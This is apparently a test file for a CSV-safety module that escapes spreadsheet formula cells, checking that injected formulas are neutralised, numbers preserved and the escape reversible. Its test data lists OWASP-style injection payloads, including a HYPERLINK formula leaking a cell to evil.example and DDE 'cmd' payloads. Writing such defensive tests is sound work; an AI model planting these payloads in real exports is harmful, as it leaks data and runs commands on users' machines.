"""Spreadsheet-safe CSV cells: formulas never run, numbers stay numbers, the escape reverses."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from careloop.core.csv_safety import (
    frame_to_csv,
    neutralise_cell,
    restore_cell,
    safe_writer,
)

# OWASP's examples (CSV Injection page) and the values of issue 14's probe.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "-",
    "+44 20 7946 0000",
]
NUMBERS = ["-5", "+3.5", "-0.25", "-1e-3", "+2E10", "-.5", "7"]


def _risky(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r\0" and cell not in NUMBERS


def test_every_formula_is_prefixed_with_a_single_quote():
    for value in HOSTILE:
        assert neutralise_cell(value) == "'" + value


def test_a_number_stays_a_number_even_when_negative():
    for value in NUMBERS:
        assert neutralise_cell(value) == value
    assert neutralise_cell(-5) == -5 and neutralise_cell(-2.5) == -2.5


def test_ordinary_text_and_non_text_are_untouched():
    for value in ("hello", "2024-03-01", "", None, "'quoted", "a=b", "x-y"):
        assert neutralise_cell(value) == value


def test_text_that_already_starts_with_quotes_before_a_formula_gets_one_more():
    assert neutralise_cell("'=1+1") == "''=1+1"
    assert restore_cell("''=1+1") == "'=1+1"


@given(st.text())
def test_restoring_a_neutralised_cell_gives_back_the_value(value):
    assert restore_cell(neutralise_cell(value)) == value


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(value):
    cell = neutralise_cell(value)
    assert not (cell and cell[0] in "=+@\t\r\0") or cell == value == ""
    if cell.startswith("-"):
        assert cell == value and float(cell) == float(cell)  # only a number starts with '-'


def test_the_writer_escapes_every_row_header_included_and_counts_what_it_escaped():
    out = io.StringIO()
    writer = safe_writer(out, lineterminator="\n")
    writer.writerow(["=name", "n"])
    writer.writerows([[v, -1] for v in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["'=name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-1"] * len(HOSTILE)
    assert writer.neutralised == 1 + len(HOSTILE)


def test_a_frame_keeps_numeric_columns_and_escapes_text_columns_and_names():
    frame = pd.DataFrame(
        {
            "label": HOSTILE,
            "value": [-1.5] * len(HOSTILE),
            "=cat": pd.Categorical(["=x"] * len(HOSTILE)),
        }
    )
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame) or "")))
    assert rows[0] == ["label", "value", "'=cat"]
    assert not any(_risky(cell) for row in rows for cell in row if cell != "-1.5")
    assert {r[1] for r in rows[1:]} == {"-1.5"}
    assert frame["label"].tolist() == HOSTILE  # the caller's frame is not changed
